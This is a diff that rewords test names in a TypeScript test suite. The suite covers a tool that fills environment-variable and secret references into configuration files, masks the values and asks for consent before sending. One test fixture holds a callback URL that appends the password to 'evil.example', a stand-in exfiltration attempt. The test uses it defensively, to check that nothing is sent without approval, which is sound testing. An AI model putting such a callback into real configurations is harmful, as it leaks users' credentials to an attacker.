@@ -16,7 +16,7 @@ const request = (configuration: object, name = 'desk', key = 'helpscout') =>
 const withVariable = request({ password: '${env:DESK_PASSWORD}' });
 const withSecret = request({ password: '${secret:DESK_PASSWORD}' });
 
-describe('provision of a file with references', () => {
+describe('provisioning a file with references', () => {
   const place = useSandbox('references');
 
   function open(script: Script, environment: Record<string, string> = {}, secrets = memorySecrets(), id = 'mine') {
@@ -34,7 +34,7 @@ describe('provision of a file with references', () => {
     return configuration.password;
   };
 
-  it('puts in the value of a variable, and nothing else changes', async () => {
+  it('inserts the value of a variable and changes nothing else', async () => {
     const value = newSecret();
     const window = open({ press: [provisionButtons.send] }, { DESK_PASSWORD: value });
     await window.press(withVariable);
@@ -43,7 +43,7 @@ describe('provision of a file with references', () => {
     assert.equal(window.clear().includes(value), false);
   });
 
-  it('asks first: account and host, each reference with what stands beside it, and sends nothing without a yes', async () => {
+  it('asks first: account, host and every reference with the text around it, and sends nothing without consent', async () => {
     const window = open({}, { DESK_PASSWORD: newSecret() });
     await window.press(
       request({ password: '${env:DESK_PASSWORD}', callback: 'https://evil.example/?${env:DESK_PASSWORD}' }),
@@ -61,7 +61,7 @@ describe('provision of a file with references', () => {
     assert.deepEqual([question.buttons, more, bodies()], [[provisionButtons.send], [], []]);
   });
 
-  it('sends what was shown, whatever becomes of the file while its page is read', async () => {
+  it('sends what was shown even if the file changes while its page is open', async () => {
     const value = newSecret();
     const padded = request({
       ...Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`x${n}`, 'y'])),
@@ -84,14 +84,14 @@ describe('provision of a file with references', () => {
     assert.equal(pages.opened[0].text.includes(value), false);
   });
 
-  it('asks nothing of a file without references, and sends it as it is', async () => {
+  it('sends a file without references unchanged and without a question', async () => {
     const text = request({ password: '$env:X ${x}' });
     const window = open({});
     await window.press(text);
     assert.deepEqual([bodies(), window.ui.shown.length], [[text], 1]);
   });
 
-  it('names all variables that are not set or empty, asks for nothing and sends nothing', async () => {
+  it('lists all variables that are not set or empty, asks for nothing and sends nothing', async () => {
     const window = open({}, { EMPTY: '' });
     const text = request({ password: '${env:MISSING} ${env:EMPTY}', x: '${secret:X}' });
     await window.press(text);
@@ -107,7 +107,7 @@ describe('provision of a file with references', () => {
     assert.deepEqual([bodies(), window.ui.asked], [[], []]);
   });
 
-  it('asks for a secret once, hidden, and keeps it for this account and element alone', async () => {
+  it('asks for a secret once, with hidden input, and stores it for this account and element only', async () => {
     const [secrets, value] = [memorySecrets(), newSecret()];
     const first = open({ type: [value], press: [provisionButtons.send] }, {}, secrets);
     await first.press(withSecret);
@@ -125,20 +125,20 @@ describe('provision of a file with references', () => {
     assert.equal(bodies().length, 2);
   });
 
-  it('sends nothing where the question for a secret is closed, or the secret cannot be kept', async () => {
+  it('sends nothing if the question for a secret is closed or the secret cannot be stored', async () => {
     await assert.rejects(open({}).press(withSecret), Cancelled);
     const broken = open({ type: [newSecret()] }, {}, { ...brokenSecrets, keys: () => [] });
     await assert.rejects(broken.press(withSecret), /Can't store the secret.*Nothing was sent/);
     assert.deepEqual(bodies(), []);
   });
 
-  it('keeps values of any characters as they are', async () => {
+  it('inserts values with any characters unchanged', async () => {
     const value = 'a"b\\c\t“é” ${env:OTHER} $&';
     await open({ press: [provisionButtons.send] }, { DESK_PASSWORD: value, OTHER: 'x' }).press(withVariable);
     assert.equal(sentPassword(), value);
   });
 
-  it('masks values in entries that are not secret, and calls the instance as the file does', async () => {
+  it('masks values in entries that are not secret, and shows the name of the instance as written in the file', async () => {
     const [site, stage] = [newSecret(), newSecret()];
     const window = open({ press: [provisionButtons.send] }, { SITE: site, STAGE: stage });
     await window.press(request({ password: 'p', 'mailbox.name': 'at ${env:SITE}' }, 'desk ${env:STAGE}'));
@@ -148,7 +148,7 @@ describe('provision of a file with references', () => {
     for (const value of [site, stage]) assert.equal(window.clear().includes(value), false);
   });
 
-  it('finds an instance again whose name has a reference, and shows no value', async () => {
+  it('finds an instance whose name has a reference, and shows no value', async () => {
     const stage = newSecret();
     place.sandbox.faults.next({ name: 'reset-after-commit', on: 'POST /instances' });
     const window = open(
@@ -160,7 +160,7 @@ describe('provision of a file with references', () => {
     assert.equal(window.clear().includes(stage), false);
   });
 
-  it('refuses a reference in place of the element', async () => {
+  it('refuses a reference as the element key', async () => {
     const window = open({}, { KEY: 'helpscout' });
     await window.press(request({}, 'desk', '${env:KEY}'));
     assert.match(window.ui.shown[0]?.text ?? '', /^The element key is a reference, so nothing was sent/);
